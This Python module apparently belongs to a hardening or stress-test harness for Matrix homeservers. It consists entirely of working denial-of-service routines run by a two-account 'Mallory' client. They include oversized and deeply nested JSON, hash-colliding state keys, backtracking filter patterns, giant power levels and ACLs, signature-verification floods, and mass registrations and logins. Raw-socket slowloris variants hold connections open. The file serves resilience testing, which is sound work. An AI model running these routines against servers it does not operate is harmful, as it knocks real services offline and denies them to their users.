"""Attacks by two or three ordinary users that are cheap for them and expensive for the homeserver; see hostile.py.

An attack is a function that gets a Mallory and yields requests (method, path, body) without end; it does not see their
answers. First it prepares what it needs by requests of its own. An attack that needs more than requests gets sockets:
see `raw`.
"""

import base64
import itertools
import json
import random
import socket
import time

from matrix import V3, Client, quote

# An event may have 65,536 bytes; its other fields and its signature need some of them.
CONTENT = 60_000
ATTACKS = {}
RAW = set()


def attack(function):
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


def raw(function):
    """Marks an attack that yields functions instead of requests; each function gets a new socket."""
    RAW.add(function.__name__.replace("_", "-"))
    return attack(function)


class Mallory:
    """An attacker with two accounts. Requests that prepare an attack are repeated until they succeed or are refused."""

    def __init__(self, url, users):
        self.url = url
        self.users = [Client(url, user["token"], user["user_id"], timeout=30) for user in users]
        self.me, self.friend = self.users
        self.server_name = self.me.user_id.split(":", 1)[1]

    def room(self, **options):
        options.setdefault("preset", "public_chat")
        return self.do("POST", f"{V3}/createRoom", options)["room_id"]

    def do(self, method, path, content=None, user=None):
        """The body of a 200; None if the request is refused. Repeats it while the server is unavailable."""
        while True:
            try:
                status, body = (user or self.me).ask(method, path, content)
            except OSError:
                time.sleep(0.2)
                continue
            if status < 500:
                return body if status == 200 else None
            time.sleep(0.2)

    def state(self, room, event_type, content, key=""):
        return self.do("PUT", f"{V3}/rooms/{quote(room)}/state/{event_type}/{quote(key)}", content)


def state_path(room, event_type, key=""):
    return f"{V3}/rooms/{quote(room)}/state/{event_type}/{quote(key)}"


def send_path(room, transaction, event_type="m.room.message"):
    return f"{V3}/rooms/{quote(room)}/send/{event_type}/{transaction}-{time.time_ns():x}"


def zeros(size):
    return ('{"a":[' + "0," * (size // 2 - 6) + "0]}").encode()


# --- memory --------------------------------------------------------------------------------------------------------


@attack
def large_state(mallory):
    """A room's state of 20 MB whose parsed form takes a gigabyte."""
    room, body = mallory.room(), zeros(CONTENT)
    for number in itertools.count():
        yield "PUT", state_path(room, "org.big", f"k{number % 350}"), body


@attack
def large_state_in_many_rooms(mallory):
    """The same amount of state spread over many rooms, so that no room is large."""
    rooms, body = [mallory.room() for _ in range(20)], zeros(CONTENT)
    for number in itertools.count():
        yield "PUT", state_path(rooms[number % 20], "org.big", f"k{number // 20 % 40}"), body


@attack
def large_messages_read_back(mallory):
    """Pages of a thousand events of 60 KB each, read by sixteen clients at once."""
    room, body = mallory.room(), json.dumps({"msgtype": "m.text", "body": "x" * CONTENT}).encode()
    for number in itertools.count():
        if number < 300 or number % 4:
            yield "PUT", send_path(room, number), body
        if number >= 300:
            yield "GET", f"{V3}/rooms/{quote(room)}/messages?dir=b&limit=1000000", b""


@attack
def whole_syncs(mallory):
    """First syncs with the whole state of heavy rooms, over and over."""
    rooms = [mallory.room(initial_state=[
        {"type": "org.big", "state_key": str(key), "content": {"t": "y" * 30_000}} for key in range(20)
    ]) for _ in range(10)]
    choice = quote(json.dumps({"room": {"timeline": {"limit": 1000}, "state": {"lazy_load_members": False}}}))
    while rooms:
        yield "GET", f"{V3}/sync?full_state=true&timeout=0&filter={choice}", b""


@attack
def account_data_of_megabytes(mallory):
    """Tags and account data that make a record too large to be sent."""
    room, text = mallory.room(), "z" * 900_000
    me = f"{V3}/user/{quote(mallory.me.user_id)}"
    for number in itertools.count():
        body = json.dumps({"order": 0.5, "text": text}).encode()
        yield "PUT", f"{me}/rooms/{quote(room)}/tags/u.tag{number % 50}", body
        yield "PUT", f"{me}/account_data/org.data{number}", body
        yield "PUT", f"{me}/rooms/{quote(room)}/account_data/org.data{number}", body
        yield "POST", f"{me}/filter", json.dumps({"room": {"rooms": [f"!{number}:{text}"]}}).encode()


@attack
def deep_account_data(mallory):
    """Content that can be stored, but nests too deeply to be read again."""
    me = f"{V3}/user/{quote(mallory.me.user_id)}"
    for number in itertools.count():
        depth = 90 + number % 40
        yield "PUT", f"{me}/account_data/org.deep{number}", b'{"a":' * depth + b"1" + b"}" * depth
        yield "GET", f"{V3}/sync?timeout=0", b""


@raw
def many_parked_syncs(mallory):
    """Long polls, each of which keeps a connection, a thread and what it has read."""
    since = mallory.do("GET", f"{V3}/sync")["next_batch"]

    def park(connection):
        connection.sendall(
            f"GET {V3}/sync?timeout=30000&since={since} HTTP/1.1\r\nHost: a\r\n"
            f"Authorization: Bearer {mallory.me.token}\r\n\r\n".encode())
        time.sleep(30)

    while True:
        yield park


# --- the processor -------------------------------------------------------------------------------------------------


@attack
def third_party_signatures(mallory):
    """An invitation that makes the server try 350 signatures with 900 keys, eleven seconds each time."""
    def key():
        return base64.b64encode(random.randbytes(32)).decode().rstrip("=")

    def signature():
        return base64.b64encode(random.randbytes(64)).decode().rstrip("=")

    room = mallory.room(room_version="11")
    keys = [{"public_key": key()} for _ in range(900)]
    token = {"display_name": "b", "key_validity_url": "https://a", "public_key": key(), "public_keys": keys}
    mallory.state(room, "m.room.third_party_invite", token, "token")
    for number in itertools.count():
        signed = {"mxid": f"@bob{number}:{mallory.server_name}", "token": "token",
                  "signatures": {f"s{n}": {f"ed25519:{n}": signature()} for n in range(350)}}
        content = {"membership": "invite", "third_party_invite": {"display_name": "b", "signed": signed}}
        yield "PUT", state_path(room, "m.room.member", signed["mxid"]), json.dumps(content).encode()


@attack
def colliding_state_keys(mallory):
    """State keys with the same hash, so that each look-up searches through all of them."""
    room = mallory.room()
    for number in itertools.count():
        key = "".join("Aa" if number >> bit & 1 else "BB" for bit in range(14))
        yield "PUT", state_path(room, "org.collide", key), b"{}"


@attack
def levels_of_many_digits(mallory):
    """Power levels of 60,000 digits, which are read for every message of the room."""
    room = mallory.room(room_version="9")
    levels = {"users": {mallory.me.user_id: 100}, "events_default": "-" + "9" * CONTENT}
    mallory.state(room, "m.room.power_levels", levels)
    for number in itertools.count():
        yield "PUT", send_path(room, number), b'{"msgtype":"m.text","body":"a"}'


@attack
def levels_of_many_users(mallory):
    """Power levels that name two thousand users, changed again and again."""
    room = mallory.room()
    users = {f"@{n}:{mallory.server_name}": n % 50 for n in range(1_400)}
    for number in itertools.count():
        content = {"users": dict(users, **{mallory.me.user_id: 100, "@0:a": number % 50}), "users_default": number % 9}
        yield "PUT", state_path(room, "m.room.power_levels"), json.dumps(content).encode()
        yield "PUT", send_path(room, number), b'{"msgtype":"m.text","body":"a"}'


@attack
def deep_and_wide_content(mallory):
    """Content of tens of thousands of keys to sort, or of brackets to descend into."""
    room = mallory.room()
    wide = json.dumps({format(random.randrange(1 << 40), "x"): 0 for _ in range(3_500)}).encode()
    deep = b'{"a":' + b"[" * 29_000 + b"]" * 29_000 + b"}"
    for number in itertools.count():
        yield "PUT", send_path(room, number), deep if number % 2 else wide


@attack
def filters_that_backtrack(mallory):
    """Patterns with many stars, tried on long types."""
    room, long_type = mallory.room(), "a" * 250
    mallory.do("PUT", send_path(room, 0, long_type), {})
    stars = ["*a" * 60 + "b"] * 500
    choice = quote(json.dumps({"room": {"timeline": {"types": stars}, "state": {"types": stars}}}))
    for number in itertools.count():
        yield "PUT", send_path(room, number, long_type), b"{}"
        yield "GET", f"{V3}/sync?timeout=0&filter={choice[:60_000]}", b""


@attack
def acl_of_many_patterns(mallory):
    """Server ACLs of thousands of patterns, which are read for each event."""
    room = mallory.room()
    rules = {"allow": ["*"], "deny": ["*a*" * 5 + str(n) for n in range(2_500)]}
    mallory.state(room, "m.room.server_acl", rules)
    for number in itertools.count():
        yield "PUT", send_path(room, number), b'{"msgtype":"m.text","body":"a"}'


@attack
def edits_of_one_event(mallory):
    """One event with thousands of edits, which is requested all the time."""
    room = mallory.room()
    first = mallory.do("PUT", send_path(room, 0), {"msgtype": "m.text", "body": "a"})["event_id"]
    edit = json.dumps({"msgtype": "m.text", "body": "b" * 10_000, "m.new_content": {"msgtype": "m.text", "body": "c"},
                       "m.relates_to": {"rel_type": "m.replace", "event_id": first}}).encode()
    for number in itertools.count():
        yield "PUT", send_path(room, number), edit
        yield "GET", f"{V3}/rooms/{quote(room)}/event/{quote(first)}", b""


# --- many of something ---------------------------------------------------------------------------------------------


@attack
def invitations_by_the_thousand(mallory):
    """Rooms that are created with as many invitations and aliases as fit into a body."""
    for number in itertools.count():
        invited = [f"@{number}-{n}:elsewhere.example" for n in range(20_000)]
        yield "POST", f"{V3}/createRoom", json.dumps({"preset": "private_chat", "invite": invited}).encode()


@attack
def rooms_without_end(mallory):
    """Rooms, each with an alias, as fast as they are made."""
    for number in itertools.count():
        name = f"r{time.time_ns():x}"
        yield "POST", f"{V3}/createRoom", json.dumps(
            {"preset": "public_chat", "room_alias_name": name, "visibility": "public", "name": "n" * 200}).encode()


@attack
def upgrades_of_upgrades(mallory):
    """A room replaced by the next one, with all of its state, again and again."""
    rooms = [mallory.room(initial_state=[
        {"type": "org.big", "state_key": str(key), "content": {"t": "y" * 5_000}} for key in range(100)
    ])]
    while rooms:
        answer = mallory.do("POST", f"{V3}/rooms/{quote(rooms[-1])}/upgrade", {"new_version": "11"})
        rooms.append(answer["replacement_room"] if answer else mallory.room())
        yield "GET", f"{V3}/sync?timeout=0", b""


@attack
def comings_and_goings(mallory):
    """Joins and leaves, as fast as they go."""
    room = mallory.room()
    body = b"{}"
    for number in itertools.count():
        yield "POST", f"{V3}/rooms/{quote(room)}/{'leave' if number % 2 else 'join'}", body
        yield "PUT", f"{V3}/profile/{quote(mallory.me.user_id)}/displayname", json.dumps(
            {"displayname": "d" * 200 + str(number)}).encode()


@attack
def profile_in_many_rooms(mallory):
    """A display name that each request changes in a hundred rooms at once."""
    for _ in range(100):
        mallory.room()
    for number in itertools.count():
        yield "PUT", f"{V3}/profile/{quote(mallory.me.user_id)}/displayname", json.dumps(
            {"displayname": f"n{number}"}).encode()


@attack
def signals_without_end(mallory):
    """Typing, receipts and presence."""
    room = mallory.room()
    event = mallory.do("PUT", send_path(room, 0), {"msgtype": "m.text", "body": "a"})["event_id"]
    me = quote(mallory.me.user_id)
    for number in itertools.count():
        yield "PUT", f"{V3}/rooms/{quote(room)}/typing/{me}", json.dumps(
            {"typing": number % 2 == 0, "timeout": 30_000}).encode()
        yield "POST", f"{V3}/rooms/{quote(room)}/receipt/m.read/{quote(event)}", json.dumps(
            {"thread_id": f"$thread{number}"}).encode()
        yield "PUT", f"{V3}/presence/{me}/status", json.dumps(
            {"presence": ("online", "unavailable")[number % 2], "status_msg": "s" * 5_000}).encode()


@attack
def redactions_of_redactions(mallory):
    """Events, their redactions, and the redactions of those."""
    room = mallory.room()
    for number in itertools.count():
        sent = mallory.do("PUT", send_path(room, number), {"msgtype": "m.text", "body": "a" * 20_000})
        event = sent["event_id"] if sent else "$none"
        for step in range(3):
            yield "PUT", f"{V3}/rooms/{quote(room)}/redact/{quote(event)}/{time.time_ns():x}", b"{}"


@attack
def devices_without_end(mallory):
    """Logins of one account, each of which makes a device with a long name."""
    body = {"type": "m.login.password", "identifier": {"type": "m.id.user", "user": mallory.me.user_id},
            "password": "secret of mallory", "initial_device_display_name": "d" * 50_000}
    for _ in itertools.count():
        yield "POST", f"{V3}/login", json.dumps(body).encode()


@attack
def wrong_passwords(mallory):
    """Logins with unknown user names, each of which costs the server the hash of a password."""
    for number in itertools.count():
        yield "POST", f"{V3}/login", json.dumps(
            {"type": "m.login.password", "identifier": {"type": "m.id.user", "user": f"nobody{number}"},
             "password": "wrong"}).encode()


@attack
def registrations(mallory):
    """Accounts, as fast as they are made."""
    for _ in itertools.count():
        yield "POST", f"{V3}/register", json.dumps(
            {"username": f"sock{time.time_ns():x}", "password": "long enough", "auth": {"type": "m.login.dummy"}}).encode()


@attack
def tokens_that_are_none(mallory):
    """Made-up sync and pagination tokens, long and short."""
    room = mallory.room()
    for number in itertools.count():
        token = "s" + "".join(random.choices("abcdef0123456789_~-", k=1 << (number % 13)))
        yield "GET", f"{V3}/sync?timeout=0&since={token}", b""
        yield "GET", f"{V3}/rooms/{quote(room)}/messages?dir=b&from={token}&limit=100", b""


@attack
def state_before_every_event(mallory):
    """The context of old events, for each of which the server needs the state at the event."""
    room = mallory.room()
    events = []
    for number in range(200):
        sent = mallory.state(room, "org.step", {"n": number, "t": "t" * 2_000}, str(number))
        events += [sent["event_id"]] if sent else []
    while events:
        for event in events:
            yield "GET", f"{V3}/rooms/{quote(room)}/context/{quote(event)}?limit=100", b""


@attack
def lists_of_rooms(mallory):
    """The directory of rooms, searched without end."""
    for number in range(30):
        mallory.room(visibility="public", name=f"room {number}", topic="t" * 20_000)
    while True:
        yield "POST", f"{V3}/publicRooms", json.dumps(
            {"limit": 1_000_000, "filter": {"generic_search_term": "e" * 500}}).encode()


# --- the doors -----------------------------------------------------------------------------------------------------


@raw
def slow_bodies(mallory):
    """Bodies that are sent at one byte a second."""
    def drip(connection):
        connection.sendall(
            f"PUT {V3}/profile/{quote(mallory.me.user_id)}/displayname HTTP/1.1\r\nHost: a\r\n"
            f"Authorization: Bearer {mallory.me.token}\r\nContent-Length: 900000\r\n\r\n".encode())
        for _ in range(60):
            connection.sendall(b" ")
            time.sleep(1)

    while True:
        yield drip


@raw
def large_bodies_halted(mallory):
    """Bodies of almost a megabyte that stop before their last byte."""
    body = b'{"displayname":"' + b"x" * 990_000

    def halt(connection):
        connection.sendall(
            f"PUT {V3}/profile/{quote(mallory.me.user_id)}/displayname HTTP/1.1\r\nHost: a\r\n"
            f"Authorization: Bearer {mallory.me.token}\r\nContent-Length: {len(body) + 10}\r\n\r\n".encode())
        connection.sendall(body)
        time.sleep(60)

    while True:
        yield halt


@raw
def answers_that_nobody_reads(mallory):
    """Requests for large answers, on connections that are never read."""
    room = mallory.room(initial_state=[
        {"type": "org.big", "state_key": str(key), "content": {"t": "y" * 50_000}} for key in range(15)])

    def ask(connection):
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2_048)
        for _ in range(20):
            connection.sendall(
                f"GET {V3}/rooms/{quote(room)}/state HTTP/1.1\r\nHost: a\r\n"
                f"Authorization: Bearer {mallory.me.token}\r\n\r\n".encode())
        time.sleep(60)

    while True:
        yield ask


@raw
def idle_connections(mallory):
    """Connections on which nothing is sent."""
    def wait(connection):
        connection.sendall(b"GET ")
        time.sleep(60)

    while True:
        yield wait
